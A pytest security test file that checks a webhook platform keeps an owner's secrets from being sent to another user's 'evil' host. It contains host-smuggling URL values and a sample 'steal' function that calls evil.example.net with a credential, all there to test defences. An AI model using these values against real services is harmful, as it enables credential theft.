"""Somebody with `write` wants another principal's secret at a host of its own: each way to it is tried here."""

from collections.abc import Iterator
from typing import Any

import pytest
from sqlalchemy import select, update
from tests.support.serving import Client, Served
from tests.support.target import Reply, Target, replying, target
from tests.support.world import function

from midcall.domain.parameters import MASK
from midcall.storage.schema import credential_values, secrets, versions

SECRET = "s3cr3t-value-of-the-owner"  # noqa: S105 (made up)
SCOPES = ("read", "run", "write")


class Scene:
    """An owner, whose services are at `mine`; somebody else with `write`, who listens at `evil`."""

    def __init__(self, served: Served, mine: Target, evil: Target) -> None:
        self.mine, self.evil = mine, evil
        self.owner = served.tenant()
        self.other = served.colleague(self.owner, "other", *SCOPES)
        self.served = served
        for each in (mine, evil):
            each.received.clear()
            each.answer = lambda _: Reply()

    def webhook(self, url: str, **webhook: Any) -> dict[str, Any]:
        """Return the document of a function."""
        parameters = {"type": "object", "properties": {"to": {"type": "string"}}}
        return {
            **function("hook", parameters=parameters, kind="webhook", webhook={"url": url, **webhook}),
            "code": None,
        }

    def create(self, by: Client, url: str, *, name: str = "hook", **webhook: Any) -> Any:
        """Create a function."""
        document = {name: value for name, value in self.webhook(url, **webhook).items() if value is not None}
        return by.ok("POST", "/v1/functions", {**document, "name": name}, status=201)

    def publish(self, by: Client, number: int = 1, *, name: str = "hook") -> None:
        """Submit a version, which is approved, and publish it."""
        review = by.ok("POST", f"/v1/functions/{name}/versions/{number}/submit")
        assert review["status"] == "approved", review
        by.ok("POST", f"/v1/functions/{name}/publish", {"version": number})

    def credential(self, **values: Any) -> None:
        """Save the owner's credential."""
        self.owner.ok("PUT", "/v1/credentials/crm", {"type": "bearer", "values": {"token": SECRET}, **values})

    def heard(self, there: Target) -> str:
        """Return all that somebody received."""
        return "\n".join(f"{each.path} {dict(each.headers)} {each.body!r}" for each in there.received)


@pytest.fixture(scope="module")
def places() -> Iterator[tuple[Target, Target]]:
    """Serve both hosts."""
    with target() as mine, target() as evil:
        yield mine, evil


@pytest.fixture
def scene(served: Served, places: tuple[Target, Target]) -> Scene:
    """Begin anew."""
    return Scene(served, *places)


# Literal values -------------------------------------------------------------------------------------------------------

LITERALS: list[tuple[str, dict[str, Any]]] = [
    ("webhook.auth.token", {"auth": {"type": "bearer", "token": SECRET}}),
    ("webhook.auth.password", {"auth": {"type": "basic", "username": "{{to}}", "password": SECRET}}),
    ("webhook.auth.value", {"auth": {"type": "header", "name": "X-Key", "value": SECRET}}),
    ("webhook.auth.value", {"auth": {"type": "query", "name": "key", "value": SECRET}}),
    ("webhook.auth.value", {"auth": {"type": "body", "name": "key", "value": SECRET}}),
    ("webhook.headers.X-Key", {"headers": {"X-Key": SECRET}}),
    ("webhook.query.key", {"query": {"key": SECRET}}),
]


def masked(value: Any) -> Any:
    """Return a webhook's fields as its answers show them."""
    if isinstance(value, dict):
        return {name: masked(child) for name, child in value.items()}
    return MASK if value == SECRET else value


@pytest.mark.parametrize(("loc", "webhook"), LITERALS, ids=[loc + str(n) for n, (loc, _) in enumerate(LITERALS)])
def test_a_literal_secret_stays_where_it_was_given_for(scene: Scene, loc: str, webhook: dict[str, Any]) -> None:
    """Another URL keeps no secret, left out or sent as its mask: a 422 at its field that says what to do."""
    scene.create(scene.owner, scene.mine.url, **webhook)
    for changed in ({"url": scene.evil.url}, {"url": scene.evil.url, **masked(webhook)}):
        fault = scene.other.problem(422, "POST", "/v1/functions/hook/versions", {"webhook": changed})["errors"][0]
        assert fault["loc"] == loc
        assert fault["msg"] == f"send it again: it was given for {scene.mine.url}, and would now go to {scene.evil.url}"
    again = {"url": scene.evil.url, **masked(webhook)}
    for part in ("auth", "headers", "query"):
        again[part] = {name: "their-own" if value == MASK else value for name, value in again.get(part, {}).items()}
    again = {name: value for name, value in again.items() if value}
    made = scene.other.ok("POST", "/v1/functions/hook/versions", {"webhook": again}, status=201)
    scene.publish(scene.other, made["versions"][-1]["number"])
    scene.other.ok("POST", "/v1/functions/hook/invoke", {"params": {"to": "x"}})
    assert (
        "their-own" in scene.heard(scene.evil) or "dGhlaXItb3du" in scene.heard(scene.evil) or loc.endswith("password")
    )
    assert SECRET not in scene.heard(scene.evil)


@pytest.mark.parametrize(
    "change",
    [
        lambda url: url.replace("http:", "https:"),
        lambda url: f"{url.rsplit(':', 1)[0]}:9443",
        lambda url: url.replace("127.0.0.1", "localhost"),
    ],
)
def test_scheme_port_and_name_are_the_place(scene: Scene, change: Any) -> None:
    """The path is not: it may change."""
    scene.create(scene.owner, scene.mine.url, headers={"X-Key": SECRET})
    patch = {"webhook": {"url": change(scene.mine.url)}}
    assert scene.other.send("POST", "/v1/functions/hook/versions", json=patch).status_code == 422
    patch = {"webhook": {"url": f"{scene.mine.url}/elsewhere?x=1"}}
    scene.other.ok("POST", "/v1/functions/hook/versions", patch, status=201)
    scene.publish(scene.other, 2)
    scene.other.ok("POST", "/v1/functions/hook/invoke", {})
    assert SECRET in scene.heard(scene.mine)


def test_a_clients_secret_stays_with_its_token_endpoint_and_its_token_with_the_target(scene: Scene) -> None:
    """With another token URL the secret would move; with another URL, the token that it brings."""
    auth = {"type": "oauth2", "token_url": f"{scene.mine.url}/token", "client_id": "me", "client_secret": SECRET}
    scene.mine.answer = lambda _: replying({"access_token": "token-of-the-owner", "token_type": "bearer"})
    scene.create(scene.owner, scene.mine.url, auth=auth)
    for changed in ({"url": scene.evil.url}, {"auth": {"token_url": f"{scene.evil.url}/token"}}):
        faults = scene.other.problem(422, "POST", "/v1/functions/hook/versions", {"webhook": changed})["errors"]
        assert {fault["loc"] for fault in faults} == {"webhook.auth.client_id", "webhook.auth.client_secret"}


def test_another_kind_of_auth_moves_no_literal_secret(scene: Scene) -> None:
    """A value that has the same name there is kept for its own host alone."""
    scene.create(scene.owner, scene.mine.url, auth={"type": "header", "name": "X-Key", "value": SECRET})
    changed = {"url": scene.evil.url, "auth": {"type": "query", "name": "key", "value": MASK}}
    scene.other.problem(422, "POST", "/v1/functions/hook/versions", {"webhook": changed})


def test_an_older_version_and_a_copy_bring_no_secret_elsewhere(scene: Scene) -> None:
    """Whatever a patch is put on; and another function keeps none of this one's."""
    scene.create(scene.owner, scene.mine.url, headers={"X-Key": SECRET})
    scene.owner.ok("POST", "/v1/functions/hook/versions", {"webhook": {"headers": {"X-Key": None}}}, status=201)
    patch = {"webhook": {"url": scene.evil.url}, "base": 1}
    scene.other.problem(422, "POST", "/v1/functions/hook/versions", patch)
    shown = scene.other.ok("GET", "/v1/functions/hook/versions/1")["webhook"]
    copied = {**function("copy", kind="webhook", webhook={**shown, "url": scene.evil.url})}
    del copied["code"]
    scene.other.problem(422, "POST", "/v1/functions", copied)


def test_vocobases_api_moves_no_secret(scene: Scene) -> None:
    """There a change is published at once; what ran before runs on."""
    body = {"name": "voco", "description": "Tells the weather.", "url": scene.mine.url}
    headers = [{"key": "X-Key", "value": SECRET}]
    made = scene.owner.ok("POST", "/api/v2/functions", {**body, "headers": headers}, status=201)["data"]
    assert scene.other.send("PATCH", f"/api/v2/functions/{made['id']}", json={"url": scene.evil.url}).status_code == 422
    scene.other.ok("POST", "/v1/functions/voco/invoke", {})
    assert SECRET in scene.heard(scene.mine)
    assert scene.heard(scene.evil) == ""


def test_a_stored_secret_is_looked_at_again_when_it_is_sent(scene: Scene) -> None:
    """Saving is not the only wall: a row that was never bound, or to another place, is not sent."""
    scene.create(scene.owner, scene.mine.url, headers={"X-Key": SECRET})
    scene.publish(scene.owner)
    for origins in ([], ["https://api.example.com"]):
        with scene.served.engine.begin() as connection:
            connection.execute(update(secrets).values(origins=origins))
        outcome = scene.owner.ok("POST", "/v1/functions/hook/invoke", {})
        assert outcome["error"]["type"] == "secret_elsewhere"
        assert "webhook.headers.X-Key is not sent" in outcome["error"]["message"]
    assert scene.mine.received == []


@pytest.mark.parametrize("url", ["http://{{to}}/", "http://127.0.0.1:{{to}}/", "{{to}}/hook", "http://x@{{to}}/"])
def test_no_template_stands_in_a_host(scene: Scene, url: str) -> None:
    """So no caller's value leads a secret anywhere."""
    document = scene.webhook(url, headers={"X-Key": SECRET})
    del document["code"]
    assert scene.other.problem(422, "POST", "/v1/functions", document)["errors"][0]["loc"] == "webhook.url"


@pytest.mark.parametrize("value", ["@evil.test", "//evil.test", "..", ".evil.test", ":8080/x", "\\evil.test", "#@evil"])
def test_no_value_of_a_call_changes_the_host(scene: Scene, value: str) -> None:
    """In the path, the query, or right behind the host."""
    scene.create(scene.owner, f"{scene.mine.url}/{{{{to}}}}?q={{{{to}}}}", headers={"X-Key": SECRET})
    scene.publish(scene.owner)
    scene.owner.ok("POST", "/v1/functions/hook/invoke", {"params": {"to": value}})
    assert scene.heard(scene.evil) == ""


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_redirect_takes_no_secret_along(scene: Scene, status: int) -> None:
    """A webhook follows none."""
    scene.credential(hosts=[scene.mine.url])
    scene.create(scene.owner, scene.mine.url, headers={"X-Key": SECRET}, auth={"credential": "crm"})
    scene.publish(scene.owner)
    scene.mine.answer = lambda _: Reply(status, b"", {"location": scene.evil.url})
    scene.owner.ok("POST", "/v1/functions/hook/invoke", {})
    assert SECRET in scene.heard(scene.mine)
    assert scene.heard(scene.evil) == ""


# Named credentials ----------------------------------------------------------------------------------------------------

NAMING: list[dict[str, Any]] = [
    {"auth": {"credential": "crm"}},
    {"headers": {"X-Note": "{{secret.crm.token}}"}},
    {"auth": {"type": "header", "name": "X-Key", "value": "{{secret.crm.token}}"}},
    {"auth": {"type": "query", "name": "q", "value": "{{ secret.crm.token }}"}},
    {"auth": {"type": "body", "name": "q", "value": "x{{secret.crm.token}}"}},
    {"auth": {"type": "basic", "username": "{{secret.crm.token}}", "password": ""}},
]


@pytest.mark.parametrize("webhook", NAMING, ids=range(len(NAMING)))
@pytest.mark.parametrize("bound", [[], ["mine"]], ids=["to nothing", "to the owner's host"])
def test_a_named_credential_is_not_pointed_at_another_host(scene: Scene, webhook: Any, bound: list[str]) -> None:
    """The review refuses it and says who can let it be; nothing is sent, tested or published."""
    scene.credential(**({"hosts": [scene.mine.url]} if bound else {}))
    scene.create(scene.other, scene.evil.url, **webhook)
    review = scene.other.ok("POST", "/v1/functions/hook/versions/1/submit")
    assert review["status"] == "changes_requested"
    (comment,) = [each for each in review["comments"] if each["rule"] == "credential-host"]
    assert comment["message"] == f"The credential crm would be sent to {scene.evil.url}, which it was not given for."
    assert "An admin lets it go there with PUT /v1/credentials/crm" in comment["suggestion"]
    assert review["new_hosts"] == [{"credential": "crm", "host": scene.evil.url}]
    scene.other.send("POST", "/v1/functions/hook/test", json={"version": 1})
    scene.other.problem(409, "POST", "/v1/functions/hook/publish", {"version": 1})
    assert scene.heard(scene.evil) == ""


def test_a_named_secret_does_not_go_to_another_token_endpoint(scene: Scene) -> None:
    """Where a token is fetched is a host like any other."""
    scene.credential(hosts=[scene.mine.url])
    auth = {"type": "oauth2", "token_url": f"{scene.evil.url}/t", "client_id": "me"}
    scene.create(scene.other, scene.mine.url, auth={**auth, "client_secret": "{{secret.crm.token}}"})
    review = scene.other.ok("POST", "/v1/functions/hook/versions/1/submit")
    assert review["new_hosts"] == [{"credential": "crm", "host": scene.evil.url}]
    assert review["status"] == "changes_requested"


def test_code_that_reaches_another_host_does_not_get_a_named_credential(scene: Scene) -> None:
    """Where none of its hosts is the credential's; which of several gets it is looked at when it is asked for."""
    scene.credential(hosts=["https://crm.example.com"])
    code = {
        "source": 'def handler(session, actions):\n    return actions.http.get("https://evil.example.net")\n',
        "actions": [{"name": "http", "credentials": ["crm"]}],
        "egress": ["evil.example.net"],
    }
    scene.other.ok("POST", "/v1/functions", function("steal", code=code), status=201)
    review = scene.other.ok("POST", "/v1/functions/steal/versions/1/submit")
    assert review["new_hosts"] == [{"credential": "crm", "host": "https://evil.example.net"}]
    assert review["status"] == "changes_requested"


def test_hosts_of_a_credential_are_not_added_without_its_secrets(scene: Scene) -> None:
    """A 422 at each secret, which says what to do; an admin may."""
    scene.credential(hosts=[scene.mine.url])
    wanted = {"type": "bearer", "values": {}, "hosts": [scene.mine.url, scene.evil.url]}
    for values in ({}, {"token": MASK}):
        found = scene.other.problem(422, "PUT", "/v1/credentials/crm", {**wanted, "values": values})
        (fault,) = found["errors"]
        assert fault["loc"] == "values.token"
        assert fault["msg"].startswith(f"send it again: it was not given for {scene.evil.url}. Or have an admin")
    assert scene.owner.ok("GET", "/v1/credentials/crm")["hosts"] == [scene.mine.url]
    assert scene.owner.ok("PUT", "/v1/credentials/crm", wanted)["hosts"] == [scene.mine.url, scene.evil.url]
    assert scene.other.ok("PUT", "/v1/credentials/crm", {**wanted, "hosts": []})["hosts"] == []


@pytest.mark.parametrize(
    ("kind", "values", "sent", "loc"),
    [
        ("custom", {"headers": {"A": SECRET, "B": "b"}}, {"headers": {"B": "new"}}, "values.headers.A"),
        ("custom", {"headers": {"A": SECRET}, "query": {"q": "b"}}, {"query": {"q": "new"}}, "values.headers.A"),
        ("basic", {"username": "me", "password": SECRET}, {"username": "you"}, "values.password"),
        ("basic", {"username": SECRET}, {"password": ""}, "values.username"),
        ("header", {"name": "X", "value": SECRET}, {"name": "Y"}, "values.value"),
        ("digest", {"username": "me", "password": SECRET}, {"username": "you"}, "values.password"),
    ],
)
def test_no_part_of_a_credential_is_kept_for_another_host(
    scene: Scene, kind: str, values: Any, sent: Any, loc: str
) -> None:
    """Not one of several headers, not an optional password, not a user name that is the secret."""
    saved = {"type": kind, "values": values, "hosts": [scene.mine.url]}
    scene.owner.ok("PUT", "/v1/credentials/crm", saved)
    wanted = {"type": kind, "values": sent, "hosts": [scene.evil.url]}
    assert loc in [each["loc"] for each in scene.other.problem(422, "PUT", "/v1/credentials/crm", wanted)["errors"]]


def test_values_of_another_environment_open_nothing(scene: Scene) -> None:
    """Each environment's values have hosts of their own: the caller chooses the environment, and gets what is its."""
    scene.credential(hosts=[scene.mine.url])
    own = {"type": "bearer", "values": {"token": "their-own"}, "hosts": [scene.evil.url], "environment": "staging"}
    scene.other.ok("PUT", "/v1/credentials/crm", own)
    scene.create(scene.other, scene.evil.url, auth={"credential": "crm"})
    scene.publish(scene.other)
    outcome = scene.other.ok("POST", "/v1/functions/hook/invoke", {})
    assert outcome["error"]["type"] == "secret_elsewhere"
    scene.other.ok("POST", "/v1/functions/hook/test", {"version": 1})
    assert SECRET not in scene.heard(scene.evil)


def test_a_new_secret_is_not_sent_to_hosts_that_somebody_else_named(scene: Scene) -> None:
    """Who made the credential first named hosts; who puts the real secret in says again where it goes."""
    theirs = {"type": "bearer", "values": {"token": "none"}, "hosts": [scene.evil.url]}
    scene.other.ok("PUT", "/v1/credentials/crm", theirs)
    real = {"type": "bearer", "values": {"token": SECRET}}
    (fault,) = scene.owner.problem(422, "PUT", "/v1/credentials/crm", real)["errors"]
    assert fault["loc"] == "hosts"
    assert scene.evil.url in fault["msg"]
    scene.owner.ok("PUT", "/v1/credentials/crm", {**real, "hosts": [scene.mine.url]})
    # From then on they are the admin's: a new secret is sent without them.
    assert scene.owner.ok("PUT", "/v1/credentials/crm", real)["hosts"] == [scene.mine.url]


def test_who_gives_a_secret_says_where_it_goes(scene: Scene) -> None:
    """No admin is needed for one's own secret; another function at the same host has it too."""
    own = {"type": "bearer", "values": {"token": "their-own"}, "hosts": [f"{scene.evil.url}/"]}
    assert scene.other.ok("PUT", "/v1/credentials/own", own)["hosts"] == [scene.evil.url]
    scene.create(scene.other, f"{scene.evil.url}/a/b", auth={"credential": "own"})
    scene.publish(scene.other)
    assert scene.other.ok("POST", "/v1/functions/hook/invoke", {})["status"] == "succeeded"
    assert "their-own" in scene.heard(scene.evil)


@pytest.mark.parametrize(
    "host", ["", "https://", "ftp://a.example.com", "a.example.com/path", "https://*.com", "a b", "*"]
)
def test_what_is_no_host_is_refused_at_its_place(scene: Scene, host: str) -> None:
    """With what to write instead."""
    wanted = {"type": "bearer", "values": {"token": "x"}, "hosts": ["api.example.com", host]}
    (fault,) = scene.other.problem(422, "PUT", "/v1/credentials/own", wanted)["errors"]
    assert fault["loc"] == "hosts.1"


# Who may let it be ----------------------------------------------------------------------------------------------------


def test_an_admin_lets_a_credential_go_where_it_writes_itself(scene: Scene) -> None:
    """Creating a function, or giving it another URL, is enough."""
    scene.credential()
    scene.create(scene.owner, scene.mine.url, auth={"credential": "crm"})
    scene.publish(scene.owner)
    assert scene.owner.ok("POST", "/v1/functions/hook/invoke", {})["status"] == "succeeded"
    assert scene.owner.ok("GET", "/v1/credentials/crm")["hosts"] == [scene.mine.url]
    lines = scene.owner.ok("GET", "/v1/audit")["items"]
    (bound,) = [line for line in lines if line["kind"] == "credential.bind"]
    assert bound["detail"]["hosts"] == [scene.mine.url]


def test_an_admin_who_changes_something_else_lets_nothing_be(scene: Scene) -> None:
    """The host stood there before, whoever wrote it: the admin may not have looked."""
    scene.credential(hosts=[scene.mine.url])
    scene.create(scene.other, scene.evil.url, auth={"credential": "crm"})
    scene.owner.ok("POST", "/v1/functions/hook/versions", {"description": "Another description."}, status=201)
    scene.create(scene.other, scene.evil.url, name="bare")
    patch = {"webhook": {"auth": {"credential": "crm"}}}
    scene.owner.ok("POST", "/v1/functions/bare/versions", patch, status=201)
    for name in ("hook", "bare"):
        review = scene.owner.ok("POST", f"/v1/functions/{name}/versions/2/submit")
        assert review["status"] == "changes_requested"
    assert scene.owner.ok("GET", "/v1/credentials/crm")["hosts"] == [scene.mine.url]


def test_a_reviewer_sees_the_pair_and_lets_it_be(scene: Scene) -> None:
    """Where people approve, the review names credential and host; approving lets it go there, rejecting does not."""
    scene.credential(hosts=[scene.mine.url])
    scene.owner.ok("PATCH", "/v1/workspace", {"approval": "human"})
    reviewer = scene.served.colleague(scene.owner, "reviewer", "review", "read")
    for name, act, hosts in [("no", "reject", [scene.mine.url]), ("yes", "approve", [scene.mine.url, scene.evil.url])]:
        scene.create(scene.other, scene.evil.url, name=name, auth={"credential": "crm"})
        review = scene.other.ok("POST", f"/v1/functions/{name}/versions/1/submit")
        assert review["status"] == "pending_approval"
        assert review["new_hosts"] == [{"credential": "crm", "host": scene.evil.url}]
        assert scene.evil.url in next(e["message"] for e in review["comments"] if e["rule"] == "credential-host")
        scene.other.problem(403, "POST", f"/v1/functions/{name}/versions/1/approve")
        reviewer.ok("POST", f"/v1/functions/{name}/versions/1/{act}", {"comment": "seen"})
        assert scene.owner.ok("GET", "/v1/credentials/crm")["hosts"] == hosts
    scene.other.ok("POST", "/v1/functions/yes/publish", {"version": 1})
    assert scene.other.ok("POST", "/v1/functions/yes/invoke", {})["status"] == "succeeded"


def test_who_decides_about_a_review_of_an_older_release_sees_the_pair_first(scene: Scene) -> None:
    """It named none: the version is submitted again, and then it does."""
    scene.credential(hosts=[scene.mine.url])
    scene.owner.ok("PATCH", "/v1/workspace", {"approval": "human"})
    scene.create(scene.other, scene.evil.url, auth={"credential": "crm"})
    scene.other.ok("POST", "/v1/functions/hook/versions/1/submit")
    reviewer = scene.served.colleague(scene.owner, "reviewer", "review", "read")
    with scene.served.engine.begin() as connection:
        here = versions.c.status == "pending_approval"
        for row in connection.execute(select(versions).where(here)).all():
            older = {name: value for name, value in row.review.items() if name != "new_hosts"}
            one = (versions.c.function_id == row.function_id, versions.c.number == row.number)
            connection.execute(update(versions).where(*one).values(review=older))
    found = reviewer.problem(409, "POST", "/v1/functions/hook/versions/1/approve", {"comment": "fine"})
    assert "submitted again" in found["detail"]
    review = scene.other.ok("POST", "/v1/functions/hook/versions/1/submit")
    assert review["new_hosts"] == [{"credential": "crm", "host": scene.evil.url}]
    reviewer.ok("POST", "/v1/functions/hook/versions/1/approve", {"comment": "seen"})


def test_a_host_that_is_taken_back_is_sent_nothing_more(scene: Scene) -> None:
    """At once, whatever was approved and published; so is a row that was never bound."""
    scene.credential(hosts=[scene.mine.url])
    scene.create(scene.other, scene.mine.url, auth={"credential": "crm"})
    scene.publish(scene.other)
    assert scene.other.ok("POST", "/v1/functions/hook/invoke", {})["status"] == "succeeded"
    with scene.served.engine.begin() as connection:
        connection.execute(update(credential_values).values(hosts=[]))
    scene.mine.received.clear()
    outcome = scene.other.ok("POST", "/v1/functions/hook/invoke", {})
    assert (outcome["status"], outcome["error"]["type"]) == ("failed", "secret_elsewhere")
    assert "PUT /v1/credentials/crm" in outcome["error"]["message"]
    assert scene.mine.received == []


def test_a_strangers_file_that_an_admin_imports_lets_nothing_be(scene: Scene) -> None:
    """Its hosts are not the admin's words, and its templates may name any credential."""
    scene.credential(hosts=[scene.mine.url])
    config = {
        "name": "hook",
        "description": "Looks an order up.",
        "url": scene.evil.url,
        "headers": {"X-Key": "{{secret.crm.token}}"},
    }
    made = scene.owner.ok("POST", "/v1/import", {"vendor": "retell", "config": config, "save": True})
    name = made["function"]["name"]
    scene.owner.send("POST", f"/v1/functions/{name}/versions/1/submit")
    scene.owner.send("POST", f"/v1/functions/{name}/test", json={"version": 1})
    assert scene.owner.ok("GET", "/v1/credentials/crm")["hosts"] == [scene.mine.url]
    assert scene.heard(scene.evil) == ""


def test_a_user_name_that_is_the_secret_is_not_shown_for_a_password_beside_it(scene: Scene) -> None:
    """Somebody could have added one, and read what was kept."""
    saved = {"type": "basic", "values": {"username": SECRET}, "hosts": [scene.mine.url]}
    scene.owner.ok("PUT", "/v1/credentials/crm", saved)
    added = {"type": "basic", "values": {"password": "x"}}
    (fault,) = scene.other.problem(422, "PUT", "/v1/credentials/crm", added)["errors"]
    assert fault["loc"] == "values.username"
    assert scene.other.ok("GET", "/v1/credentials/crm")["values"]["username"] == MASK
